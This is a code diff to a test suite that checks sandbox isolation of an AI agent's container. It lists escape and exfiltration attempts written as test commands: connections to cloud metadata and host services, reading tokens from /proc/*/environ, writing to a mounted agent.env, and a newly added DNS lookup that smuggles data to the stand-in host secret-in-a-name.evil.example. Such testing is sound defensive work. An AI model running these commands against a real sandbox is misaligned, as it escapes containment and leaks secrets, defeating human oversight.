@@ -28,6 +28,9 @@ UPLINK = (ON_THE_INSIDE, ON_THE_INSIDE + '      "uplink": {}\n')
 ENVIRONMENT = ('      "CURL_CA_BUNDLE": "/bottle/ca/bundle.pem"\n', '      "CURL_CA_BUNDLE": "/bottle/ca/bundle.pem"\n      "EGRESS_TOKEN_0":\n')
 MOUNT = ('        target: "/bottle"\n        read_only: true\n', '        target: "/bottle"\n        read_only: false\n')
 
+DNS = ('    dns:\n      - "127.0.0.1"\n', "")
+LOOK_UP = ["python3", "-c", "import socket; print('tried'); print(socket.gethostbyname('secret-in-a-name.evil.example'))"]
+
 CONNECT = "import socket, sys; print('tried'); socket.create_connection((sys.argv[1], int(sys.argv[2])), 3); print('connected')"
 
 
@@ -35,15 +38,16 @@ def connect(address, port):
     return ["python3", "-c", CONNECT, address, str(port)]
 
 
-# name: (command in the agent's container, its output when it has worked, the guard's change in compose.yaml)
+# name: (command in the agent's container, its output when it has worked, the guards' changes in compose.yaml)
 NETWORK = {
-    "direct connection": (connect(FAR_END_ADDRESS, 443), "connected", INTERNAL),
-    "cloud metadata, directly": (connect("169.254.169.254", 443), "connected", INTERNAL),
-    "service of the host, by the network's gateway": (connect(f"{SUBNET}.1", 8000), "connected", ISOLATED),
-    "service of the host, by its own address": (connect(HOST_ADDRESS, 8000), "connected", INTERNAL),
-    "pipelock, around egress": (connect("pipelock", 8888), "connected", UPLINK),
-    "reading a token from the environment": (["sh", "-c", "echo tried; cat /proc/*/environ"], "real-token", ENVIRONMENT),
-    "changing what is mounted": (["sh", "-c", "echo tried; echo x > /bottle/agent.env && echo changed"], "changed", MOUNT),
+    "direct connection": (connect(FAR_END_ADDRESS, 443), "connected", [INTERNAL]),
+    "cloud metadata, directly": (connect("169.254.169.254", 443), "connected", [INTERNAL]),
+    "service of the host, by the network's gateway": (connect(f"{SUBNET}.1", 8000), "connected", [ISOLATED]),
+    "service of the host, by its own address": (connect(HOST_ADDRESS, 8000), "connected", [INTERNAL]),
+    "pipelock, around egress": (connect("pipelock", 8888), "connected", [UPLINK]),
+    "reading a token from the environment": (["sh", "-c", "echo tried; cat /proc/*/environ"], "real-token", [ENVIRONMENT]),
+    "changing what is mounted": (["sh", "-c", "echo tried; echo x > /bottle/agent.env && echo changed"], "changed", [MOUNT]),
+    "data in a DNS lookup": (LOOK_UP, FAR_END_ADDRESS, [INTERNAL, DNS]),
 }
 
 
@@ -56,10 +60,10 @@ def compiled(tmp_path_factory):
 @pytest.mark.parametrize("name", NETWORK)
 def test_network_attack(name, engine, images, far_end, compiled, tmp_path, row):
     row("attack on the container's walls", name)
-    command, sign, guard = NETWORK[name]
+    command, sign, guards = NETWORK[name]
     shutil.copytree(compiled, tmp_path / "guarded/target")
     shutil.copytree(compiled, tmp_path / "unguarded/target")
-    patch(tmp_path / "unguarded/target", "compose.yaml", [guard])
+    patch(tmp_path / "unguarded/target", "compose.yaml", guards)
     (tmp_path / "www").mkdir()
     with engine.started("host", "python3", "-m", "http.server", "8000", "--directory", tmp_path / "www"):
         with Bottle(engine, images, tmp_path / "guarded/target", VALUES, up=False) as bottle:
@@ -68,6 +72,16 @@ def test_network_attack(name, engine, images, far_end, compiled, tmp_path, row):
         with Bottle(engine, images, tmp_path / "unguarded/target", VALUES, up=False) as bottle:
             done = bottle.run(*command)
             assert sign in done.stdout, "without its guard the attack should have worked: " + done.stdout + done.stderr
+
+
+def test_a_lookup_is_not_answered_even_where_there_is_a_way_out(engine, images, far_end, compiled, tmp_path, row):
+    # Engines before 25.0.5 forward lookups from internal networks when the host's resolver is local.
+    row("attack on the container's walls", "data in a DNS lookup, where the network is not what stops it")
+    shutil.copytree(compiled, tmp_path / "target")
+    patch(tmp_path / "target", "compose.yaml", [INTERNAL])
+    with Bottle(engine, images, tmp_path / "target", VALUES, up=False) as bottle:
+        done = bottle.run(*LOOK_UP)
+        assert "tried" in done.stdout and not far_end.events("name", name="secret-in-a-name.evil.example"), done.stdout
 
 
 @pytest.fixture(scope="module")
